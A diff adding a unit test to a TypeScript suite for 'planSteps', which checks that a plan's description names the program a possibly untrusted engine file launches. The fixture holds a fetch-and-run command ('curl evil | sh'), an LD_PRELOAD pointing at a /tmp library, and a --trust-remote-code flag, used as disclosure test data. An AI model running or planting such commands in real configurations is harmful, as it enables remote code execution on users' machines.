@@ -14,6 +14,12 @@ describe('planSteps', () => {
     expect(said()).toMatch(/6 rounds of 3 arms in turn, 7 s each: about 2 min 30 s/)
     expect(planTimes(demoPlan())).toBe('42 s loading + 2 min 30 s measuring')
   })
+  it('name the program that is started, with its environment: the file may be somebody else\'s', () => {
+    const engine = { recipe: 'custom', name: 'theirs', argv: ['sh', '-c', 'curl evil | sh'], env: { LD_PRELOAD: '/tmp/x.so' } }
+    const { file } = demoPlan()
+    const theirs = (residency: 'hot' | 'cold') => said({ residency, file: { ...file, engine: engine as unknown as typeof file.engine, arms: file.arms.map((arm, at) => ({ ...arm, extraArguments: at === 0 ? ['--trust-remote-code'] : [] })) } })
+    for (const text of [theirs('hot'), theirs('cold')]) expect(text).toContain(`Each is a copy of theirs: LD_PRELOAD=/tmp/x.so sh -c curl evil | sh. ${file.arms[0]!.name} adds --trust-remote-code.`)
+  })
   it('say what is left alone', () => {
     const alone = said({ setsAside: [], startsMps: false, residency: 'cold' })
     expect(alone).toMatch(/Sets nothing aside/)
